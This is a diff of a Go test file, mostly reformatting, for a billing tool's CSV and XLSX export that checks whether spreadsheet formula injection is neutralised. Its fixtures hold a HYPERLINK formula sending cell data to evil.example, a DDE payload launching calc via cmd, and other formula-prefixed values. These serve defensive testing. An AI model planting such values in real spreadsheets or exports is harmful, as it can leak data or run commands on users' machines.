@@ -24,21 +24,28 @@ func hostileWorkspace(t *testing.T) string {
 	t.Helper()
 	const link = `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`
 	dir := workspaceOf(t, map[string]string{
-		"tollbook.yaml":          "zone: Asia/Shanghai\ncurrency: {code: CNY, digits: 2}\nrounding: {grain: cycle, mode: half_up}\n",
-		"books/products.csv":     "sku,name,service_type_code,measure,pricing_model\n1E5,+SUM(1),2026-09,GB,flat\n",
-		"books/prices.csv":       "sku,region_code,valid_from,tier,unit_price\n1E5,*,2026-01-01,1,0.335\n",
-		"books/customers.csv":    "customer_id,name\n1234567890123456," + link + "\n=1+1,plain\n00123,@SUM(A1)\n",
-		"books/partners.csv":     "partner_id,name,kind\n00007,-2+3,reseller\n",
-		"books/associations.csv": "customer_id,partner_id,association_type,valid_from\n1234567890123456,00007,2,2026-01-01\n",
-		"books/terms.csv":        "seller_id,buyer_id,basis,rate,valid_from\nvendor,00007,official,0.7,2026-01-01\n",
-		"inbox/usage/usage.csv": "record_id,customer_id,resource_id,resource_name,sku,region_code,usage_start,usage_end,quantity\n" +
-			"9007199254740993,1234567890123456,-5,\"x;=cmd|' /C calc'!A0;\",1E5,03,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,4\n" +
-			"2026-09-05,=1+1,@r,＝1+1,1E5,MARCH1,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,1234567.1234567891\n" +
+		"tollbook.yaml": "zone: Asia/Shanghai\ncurrency: {code: CNY, digits: 2}\n" +
+			"rounding: {grain: cycle, mode: half_up}\n",
+		"books/products.csv":  "sku,name,service_type_code,measure,pricing_model\n1E5,+SUM(1),2026-09,GB,flat\n",
+		"books/prices.csv":    "sku,region_code,valid_from,tier,unit_price\n1E5,*,2026-01-01,1,0.335\n",
+		"books/customers.csv": "customer_id,name\n1234567890123456," + link + "\n=1+1,plain\n00123,@SUM(A1)\n",
+		"books/partners.csv":  "partner_id,name,kind\n00007,-2+3,reseller\n",
+		"books/associations.csv": "customer_id,partner_id,association_type,valid_from\n" +
+			"1234567890123456,00007,2,2026-01-01\n",
+		"books/terms.csv": "seller_id,buyer_id,basis,rate,valid_from\nvendor,00007,official,0.7,2026-01-01\n",
+		"inbox/usage/usage.csv": "record_id,customer_id,resource_id,resource_name,sku,region_code,usage_start," +
+			"usage_end,quantity\n" +
+			"9007199254740993,1234567890123456,-5,\"x;=cmd|' /C " +
+			"calc'!A0;\",1E5,03,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,4\n" +
+			"2026-09-05,=1+1,@r,＝1+1,1E5,MARCH1,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00," +
+			"1234567.1234567891\n" +
 			"0001,00123,+7,TRUE,1E5,#N/A,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,1\n" +
 			"x1,00123,+7," + link + ",nope,east,2026-09-05T10:00:00+08:00,2026-09-05T11:00:00+08:00,1\n",
-		"inbox/adjustments/a.csv": "adjustment_id,customer_id,sku,time,amount,bill_detail_type,note\n-9,00123,1E5,2026-09-06T10:00:00+08:00,-3.5,9,=1+2\n",
+		"inbox/adjustments/a.csv": "adjustment_id,customer_id,sku,time,amount,bill_detail_type,note\n" +
+			"-9,00123,1E5,2026-09-06T10:00:00+08:00,-3.5,9,=1+2\n",
 	})
-	if code, _, told := runs(dir, "run", "monthly", "--cycle", "2026-09", "--as-of", "2026-10-05T04:00:00Z"); code > exitLook {
+	if code, _, told := runs(dir, "run", "monthly", "--cycle", "2026-09", "--as-of",
+		"2026-10-05T04:00:00Z"); code > exitNeedsAttention {
 		t.Fatal(told)
 	}
 	return dir
@@ -46,7 +53,8 @@ func hostileWorkspace(t *testing.T) string {
 
 // csvLines are command lines of every command that writes CSV.
 func csvLines() map[string][][]string {
-	tables := [][]string{strings.Fields("export --cycle 2026-09 --format focus --issuer vendor"), strings.Fields("export --cycle 2026-09 --split")}
+	tables := [][]string{strings.Fields("export --cycle 2026-09 --format focus --issuer vendor"),
+		strings.Fields("export --cycle 2026-09 --split")}
 	for _, table := range export.Tables() {
 		tables = append(tables, []string{"export", "--cycle", "2026-09", "--table", table})
 	}
@@ -82,9 +90,12 @@ func TestExcelFlags(t *testing.T) {
 	for name := range known {
 		t.Errorf("%s: there is no such command that writes CSV", name)
 	}
-	for _, args := range []string{"export --cycle 2026-09 --excel --format ndjson", "export --cycle 2026-09 --excel --format focus-parquet --issuer vendor",
-		"query revenue --excel", "bill --cycle 2026-09 --customer a --excel", "statement --cycle 2026-09 --excel --format json"} {
-		if code, _, told := runs(t.TempDir(), strings.Fields(args)...); code != exitWrong || !strings.Contains(told, "--excel") {
+	for _, args := range []string{"export --cycle 2026-09 --excel --format ndjson",
+		"export --cycle 2026-09 --excel --format focus-parquet --issuer vendor",
+		"query revenue --excel", "bill --cycle 2026-09 --customer a --excel",
+		"statement --cycle 2026-09 --excel --format json"} {
+		if code, _, told := runs(t.TempDir(), strings.Fields(args)...); code != exitWrong ||
+			!strings.Contains(told, "--excel") {
 			t.Errorf("%s: exit %d, %s", args, code, told)
 		}
 	}
@@ -188,7 +199,9 @@ func sameTable(t *testing.T, where, plain, excel string) {
 	if len(want) != len(have) {
 		t.Fatalf("%s: %d rows, %d with --excel", where, len(want), len(have))
 	}
-	isNumber := regexp.MustCompile(`(_amount|_count|_usage|quantity|^amount|_price|Cost|Price|Quantity|charging_mode|bill_detail_type|tier|^row|tax|^association_type|drawn|opening|^left|rank|limit|value)$`)
+	isNumber :=
+		regexp.MustCompile(
+			`(_amount|_count|_usage|quantity|^amount|_price|Cost|Price|Quantity|charging_mode|bill_detail_type|tier|^row|tax|^association_type|drawn|opening|^left|rank|limit|value)$`)
 	for r := range have {
 		for c := range have[r] {
 			name := want[0][c]
@@ -199,7 +212,8 @@ func sameTable(t *testing.T, where, plain, excel string) {
 			if number && !isNumber.MatchString(name) {
 				t.Errorf("%s: %s is a number in column %s", where, have[r][c], name)
 			}
-			if !number && r > 0 && strings.HasSuffix(name, "_amount") && name != "usage_amount" && text != "" && len(strings.Trim(strings.NewReplacer("-", "", ".", "").Replace(text), "0")) <= 15 {
+			if !number && r > 0 && strings.HasSuffix(name, "_amount") && name != "usage_amount" && text != "" &&
+				len(strings.Trim(strings.NewReplacer("-", "", ".", "").Replace(text), "0")) <= 15 {
 				t.Errorf("%s: %s %q is no number", where, name, have[r][c])
 			}
 		}
@@ -211,7 +225,8 @@ func TestExcelCells(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
 	lines := succeeds(t, dir, "export", "--cycle", "2026-09", "--excel")
-	for _, want := range []string{`,"=""1234567890123456""",`, `,"=""9007199254740993""",`, `,'=1+1,`, `,"=""2026-09-05""",`, `,"=""00123""",`, `,"=""0001""",`,
+	for _, want := range []string{`,"=""1234567890123456""",`, `,"=""9007199254740993""",`, `,'=1+1,`,
+		`,"=""2026-09-05""",`, `,"=""00123""",`, `,"=""0001""",`,
 		`,"=""x;'=cmd|' /C calc'!A0;""",`, `,'＝1+1,`, `,"=""TRUE""",`, `,"=""#N/A""",`, ",-3.50000000,"} {
 		if !strings.Contains(lines, want) {
 			t.Errorf("lines have no %s:\n%s", want, lines)
@@ -227,12 +242,14 @@ func TestExcelCells(t *testing.T) {
 func TestXLSXCells(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
-	outputs := [][]string{strings.Fields("bill --cycle 2026-09 --customer 1234567890123456"), strings.Fields("bill --cycle 2026-09 --customer 00123"),
+	outputs := [][]string{strings.Fields("bill --cycle 2026-09 --customer 1234567890123456"),
+		strings.Fields("bill --cycle 2026-09 --customer 00123"),
 		strings.Fields("statement --cycle 2026-09 --partner 00007")}
 	for _, table := range export.Tables() {
 		outputs = append(outputs, []string{"export", "--cycle", "2026-09", "--table", table})
 	}
-	ids := []string{"1234567890123456", "=1+1", "00123", "9007199254740993", "2026-09-05", "0001", "1E5", "-5", "@r", "+7", "00007", "-9", "2026-09", "=1+2", "+SUM(1)"}
+	ids := []string{"1234567890123456", "=1+1", "00123", "9007199254740993", "2026-09-05", "0001", "1E5", "-5", "@r",
+		"+7", "00007", "-9", "2026-09", "=1+2", "+SUM(1)"}
 	found := map[string]bool{}
 	for _, args := range outputs {
 		where := strings.Join(args, " ")
@@ -262,7 +279,8 @@ func TestXLSXCells(t *testing.T) {
 	}
 }
 
-func checkCell(t *testing.T, f *excelize.File, where, sheet string, col, row int, value string, ids []string, found map[string]bool) {
+func checkCell(t *testing.T, f *excelize.File, where, sheet string, col, row int, value string, ids []string,
+	found map[string]bool) {
 	t.Helper()
 	at, err := excelize.CoordinatesToCellName(col, row)
 	if err != nil {
